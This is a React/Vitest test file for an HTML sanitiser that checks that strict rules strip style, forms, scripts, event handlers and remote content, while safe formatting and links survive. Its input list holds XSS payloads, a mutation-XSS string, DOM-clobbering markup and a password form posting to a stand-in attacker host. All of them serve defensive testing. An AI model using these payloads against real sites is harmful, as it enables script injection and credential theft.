import { render } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { SafeHtml, sanitizePlatformHtml } from './safe-html.tsx';

// Issue 21, finding 6: one strict configuration for all platform HTML.

describe('platform HTML is sanitised strictly', () => {
  const dirty = [
    '<style>body{display:none}</style>',
    '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>',
    '<p style="position:fixed;inset:0">cover</p>',
    '<img id="getElementById" name="cookie" src="x">',
    '<a id="defaultView" name="location" href="/promo">x</a>',
    '<img src="https://tracker.example/pixel.gif">',
    '<img src="x" onerror="alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<svg><script>alert(1)</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<iframe src="https://evil.example"></iframe>',
  ];

  it('drops style, forms, inputs, inline styles, ids and names, remote images and scripts', () => {
    expect(dirty.length).toBeGreaterThan(0);
    for (const html of dirty) {
      const clean = sanitizePlatformHtml(html);
      expect(clean, html).not.toMatch(
        /<style|<form|<input|<button|style=|\bid=|\bname=|tracker\.example|onerror|javascript:|<script|<iframe|<svg|<math/i,
      );
    }
  });

  it('keeps text formatting, lists, tables and same-origin or data-free images', () => {
    const clean = sanitizePlatformHtml(
      '<h2>Title</h2><p><strong>Bold</strong> <em>it</em></p><ul><li>one</li></ul><table><tr><td>1</td></tr></table><img src="/mock-assets/banners/1.svg" alt="Banner">',
    );
    expect(clean).toContain('<strong>Bold</strong>');
    expect(clean).toContain('<li>one</li>');
    expect(clean).toContain('<td>1</td>');
    expect(clean).toContain('src="/mock-assets/banners/1.svg"');
  });

  it('sends links through safeLink: external ones open with noopener noreferrer', () => {
    const { container } = render(
      <SafeHtml html='<a href="https://example.com/terms">Terms</a> <a href="/promotions">Promos</a> <a href="//evil.example">x</a>' />,
    );
    const links = [...container.querySelectorAll('a')];
    expect(links.length).toBeGreaterThan(0);
    const external = links.find((a) => a.textContent === 'Terms');
    expect(external?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(external?.getAttribute('target')).toBe('_blank');
    const internal = links.find((a) => a.textContent === 'Promos');
    expect(internal?.getAttribute('href')).toBe('/promotions');
    expect(internal?.hasAttribute('target')).toBe(false);
    expect(container.innerHTML).not.toContain('evil.example');
  });
});
